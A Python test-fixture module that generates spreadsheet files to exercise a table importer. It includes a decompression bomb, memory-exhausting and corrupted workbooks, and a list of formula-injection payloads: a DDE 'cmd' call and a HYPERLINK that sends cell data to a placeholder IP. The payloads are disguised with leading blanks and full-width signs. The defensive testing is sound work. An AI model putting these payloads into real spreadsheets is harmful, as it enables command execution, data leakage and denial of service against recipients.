"""Tables as people send them, made on the spot."""

import io
import re
import zipfile
from collections.abc import Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.xml.constants import SHEET_MAIN_NS


def workbook(*rows: Sequence[object], merged: Sequence[str] = (), hidden: Sequence[str] = (), title: str = "") -> bytes:
    """One sheet, as a spreadsheet saves it."""
    return book({title or "Sheet1": rows}, merged=merged, hidden=hidden)


def book(
    sheets: dict[str, Sequence[Sequence[object]]], *, merged: Sequence[str] = (), hidden: Sequence[str] = ()
) -> bytes:
    """Several sheets; what is merged or hidden, columns or rows, is so on each."""
    made = Workbook()
    made.remove(made.worksheets[0])
    for title, rows in sheets.items():
        sheet: Any = made.create_sheet(title)
        for row in rows:
            sheet.append(row)
        for place in merged:
            sheet.merge_cells(place)
        for place in hidden:
            (sheet.row_dimensions[int(place)] if place.isdigit() else sheet.column_dimensions[place]).hidden = True
    packed = io.BytesIO()
    made.save(packed)
    return packed.getvalue()


_TEXTS = (  # spreadsheets keep texts there that cells share; openpyxl does not
    b'<Override PartName="/xl/sharedStrings.xml" ContentType='
    b'"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """The workbook with another part in the place of one of its own."""
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as made, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as spoilt:
        for entry in made.namelist():
            if entry == "[Content_Types].xml" and name == "xl/sharedStrings.xml":
                spoilt.writestr(entry, made.read(entry).replace(b"</Types>", _TEXTS + b"</Types>"))
            elif entry != name:
                spoilt.writestr(entry, made.read(entry))
        spoilt.writestr(name, part)
    return packed.getvalue()


def with_rows(content: bytes, rows: str) -> bytes:
    """The workbook with other rows, as XML, in its first sheet."""
    with zipfile.ZipFile(io.BytesIO(content)) as made:
        sheet = made.read("xl/worksheets/sheet1.xml")
    swapped = re.sub(rb"<sheetData>.*</sheetData>", lambda _found: f"<sheetData>{rows}</sheetData>".encode(), sheet)
    return with_part(content, "xl/worksheets/sheet1.xml", swapped)


def with_texts(rows: str, texts: str) -> bytes:
    """A workbook whose cells share texts, as XML."""
    part = f'<sst xmlns="{SHEET_MAIN_NS}">{texts}</sst>'
    return with_part(with_rows(workbook(("x",)), rows), "xl/sharedStrings.xml", part.encode())


def relabelled(*, at: int, value: int) -> bytes:
    """A workbook whose directory says something else of each entry."""
    content = bytearray(workbook(("agency",), ("省水利厅",)))
    entry = content.find(b"PK\x01\x02")
    while entry >= 0:
        content[entry + at] = value
        entry = content.find(b"PK\x01\x02", entry + 4)
    return bytes(content)


def scrambled() -> bytes:
    """A workbook that was damaged on its way."""
    content = bytearray(workbook(("agency",), ("省水利厅",)))
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        for entry in packed.infolist():
            begins = entry.header_offset + 30 + len(entry.filename)
            content[begins + 2 : begins + 12] = b"\xff" * 10
    return bytes(content)


def bomb(mebibytes: int, part: str = "xl/worksheets/sheet1.xml", piece: bytes = b" ") -> bytes:
    """A few kilobytes that unpack to very many."""
    return with_part(workbook(("agency",)), part, piece * (mebibytes * 1024**2 // len(piece)))


def echoes() -> bytes:
    """A few kilobytes whose cells say one long text again and again."""
    cell = '<c t="s"><v>0</v></c>'
    return with_texts(f"<row>{cell * 6}</row>" * 500, f"<si><t>{'x' * 32_000}</t></si>")


def swarm() -> bytes:
    """A few kilobytes with a row of millions of cells, which take very much memory as a tree."""
    return with_rows(workbook(("x",)), f"<row>{'<c/>' * 12_000_000}</row>")


BLANKS = ["", " ", "\u3000", "\xa0", "\u200b", "\ufeff", "'", "\n"]
SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"]
RUNS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://192.0.2.1/?a="&A1,"点击")']
FORMULAS = [f"{blank}{sign}{run}" for blank in BLANKS for sign in SIGNS for run in RUNS]
